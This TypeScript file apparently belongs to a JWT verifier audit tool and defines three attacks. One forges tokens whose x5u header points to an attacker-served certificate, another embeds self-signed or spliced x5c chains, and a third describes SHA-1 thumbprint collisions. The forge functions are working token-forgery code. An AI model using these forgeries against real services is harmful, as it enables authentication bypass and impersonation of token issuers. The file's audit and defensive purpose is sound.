import type { ForgeContext, Forgery, TokenAttack, UnforgedAttack } from '../attack.ts';
import { type AttackerKey, attackerForgery, attackerKey, likelyAlg, likelyAlgs } from '../attacker-forgery.ts';
import { writeCertificate } from '../certificate.ts';
import { decodeBase64Url, encodeBase64, encodeBase64Url } from '../encoding.ts';
import type { JsonObject } from '../known-token.ts';
import { readPublishedKey, writePem } from '../published-key.ts';

/** C08. */
export const certificateAddress: TokenAttack = {
  kind: 'token',
  id: 'C08',
  title: "The token says where its certificate is: x5u leads to the attacker's",
  severity: 'critical',
  cwe: 295,
  source: ['RFC 7515 §4.1.5', 'RFC 8725 §3.10'],
  how: 'The header may name an address of the certificate whose key signed the token. Whoever follows it gets a certificate from the attacker, made by himself for his own key, and the signature holds under it. The audit serves such certificates from a loopback address and sees whether they are fetched.',
  victims: [],
  fix: 'Never read x5u. Where certificates are the point, validate the whole path to a root that was configured, and the name in the leaf as well.',
  needs: ['callback'],
  expect: 'refused',
  forge: async (context) => {
    const key = await attackerKey(context, likelyAlg(context));
    const leaf = await selfSigned(context, key);
    const pem = writePem('CERTIFICATE', leaf);
    const print = encodeBase64Url(new Uint8Array(await crypto.subtle.digest('SHA-256', Uint8Array.from(leaf))));
    const oldPrint = encodeBase64Url(new Uint8Array(await crypto.subtle.digest('SHA-1', Uint8Array.from(leaf))));
    const known = context.good.header['kid'];
    const forms: Readonly<Record<string, JsonObject>> = {
      plain: {},
      'known-kid': { kid: known ?? 'default' },
      'with-thumbprint': { 'x5t#S256': print },
      'with-old-thumbprint': { x5t: oldPrint },
      'with-x5c': { x5c: [encodeBase64(leaf)] },
    };
    const served = { headers: { 'content-type': 'application/pem-certificate-chain' }, body: pem };
    const forgeries: Forgery[] = [];
    for (const [name, members] of Object.entries(forms)) {
      const variant = `x5u-${name}`;
      const callback = context.callbackUrl?.(variant, served) ?? '';
      const header = { kid: undefined, ...members, x5u: callback };
      forgeries.push(await attackerForgery(context, key, variant, { header, callback }));
    }
    return forgeries;
  },
};

/** C09. */
export const untrustedChain: TokenAttack = {
  kind: 'token',
  id: 'C09',
  title: "The token brings its own certificate: x5c of the attacker's making",
  severity: 'critical',
  cwe: 295,
  source: ['RFC 7515 §4.1.6', 'RFC 5280 §6', 'RFC 8725 §3.10'],
  how: 'The header may hold a chain of certificates, the first of which has the key. A certificate is worth no more than the root above it, and a verifier that takes the key out of the first without following the chain to a root of its own trusts whoever made it. Names in it are of the attacker’s choosing, the issuer’s included.',
  victims: [],
  fix: 'Ignore x5c, or validate the whole path to a root that was configured and compare the name in the leaf with the issuer’s. That a chain is whole and ends in a self-signed certificate says nothing.',
  needs: [],
  expect: 'refused',
  forge: async (context) => {
    const forgeries: Forgery[] = [];
    for (const alg of likelyAlgs(context)) {
      const key = await attackerKey(context, alg);
      const x5c = [encodeBase64(await selfSigned(context, key))];
      const variant = `self-signed-${alg.toLowerCase()}`;
      forgeries.push(await attackerForgery(context, key, variant, { header: { kid: undefined, x5c } }));
    }
    return [...forgeries, ...(await longerChains(context))];
  },
};

/** C10. */
export const collidingThumbprint: UnforgedAttack = {
  kind: 'not-forged',
  id: 'C10',
  title: 'A certificate looked up by its SHA-1 thumbprint (x5t)',
  severity: 'low',
  cwe: 328,
  source: ['RFC 7515 §4.1.7', 'RFC 8725 §3.2'],
  how: 'The header may name a certificate by the SHA-1 hash of it. Two documents with one SHA-1 hash have been made since 2017, at a price that falls. Whoever gets one of a pair registered as trusted could sign under the other.',
  victims: [],
  fix: 'Look certificates up by x5t#S256, or keys by kid.',
  reason:
    'It needs a pair of certificates with one SHA-1 hash, one of which the issuer has registered: neither is made in an audit. Look for x5t without x5t#S256 in your key set.',
};

/** The attacker's own authority above the leaf, and chains in which a certificate of the issuer stands. */
async function longerChains(context: ForgeContext): Promise<readonly Forgery[]> {
  const key = await attackerKey(context, likelyAlg(context));
  const above = await attackerKey(context, key.alg === 'ES384' ? 'ES256' : 'ES384');
  const name = subjectOf(context);
  const leaf = await certify(context, key, name, above, 'Audit Root CA', false);
  const root = await certify(context, above, 'Audit Root CA', above, 'Audit Root CA', true);
  const alone = await selfSigned(context, key);
  const [own, chain] = [encodeBase64(alone), [leaf, root].map((der) => encodeBase64(der))];
  const known = context.good.header['kid'] ?? 'default';
  const forms: Readonly<Record<string, JsonObject>> = {
    'leaf-and-root': { kid: undefined, x5c: chain },
    'leaf-without-its-root': { kid: undefined, x5c: chain.slice(0, 1) },
    'root-before-leaf': { kid: undefined, x5c: chain.toReversed() },
    'known-kid': { kid: known, x5c: [own] },
    'as-pem': { kid: undefined, x5c: [writePem('CERTIFICATE', alone)] },
    'as-text': { kid: undefined, x5c: own },
    'in-base64url': { kid: undefined, x5c: [encodeBase64Url(alone)] },
    'within-jwk': { kid: undefined, jwk: { ...key.publicJwk, x5c: [own] } },
  };
  const [real] = context.keys[0]?.certificates ?? [];
  const withReal: Readonly<Record<string, JsonObject>> =
    real === undefined
      ? {}
      : {
          'real-one-behind': { kid: undefined, x5c: [own, real] },
          'real-one-before': { kid: undefined, x5c: [real, own] },
          'thumbprint-of-the-real-one': { kid: undefined, x5c: [own], 'x5t#S256': await printOf(real) },
        };
  const made = Object.entries({ ...forms, ...withReal }).map(async ([variant, header]) =>
    attackerForgery(context, key, variant, { header }),
  );
  return Promise.all(made);
}

/** A certificate of the attacker's key in the issuer's name, signed by that key. */
async function selfSigned(context: ForgeContext, key: AttackerKey): Promise<Uint8Array> {
  const name = subjectOf(context);
  return certify(context, key, name, key, name, true);
}

async function certify(
  { now }: ForgeContext,
  key: AttackerKey,
  subject: string,
  signing: AttackerKey,
  issuer: string,
  authority: boolean,
): Promise<Uint8Array> {
  const published = await readPublishedKey(key.publicJwk);
  const signer = { alg: signing.alg, jwk: signing.privateJwk };
  return writeCertificate({ spki: published?.spki ?? new Uint8Array(0), subject, issuer, signer, now, authority });
}

function subjectOf({ good }: ForgeContext): string {
  const { iss } = good.payload;
  return typeof iss === 'string' && URL.canParse(iss) ? new URL(iss).hostname : 'issuer';
}

async function printOf(certificate: string): Promise<string> {
  return encodeBase64Url(new Uint8Array(await crypto.subtle.digest('SHA-256', decodeBase64Url(certificate))));
}
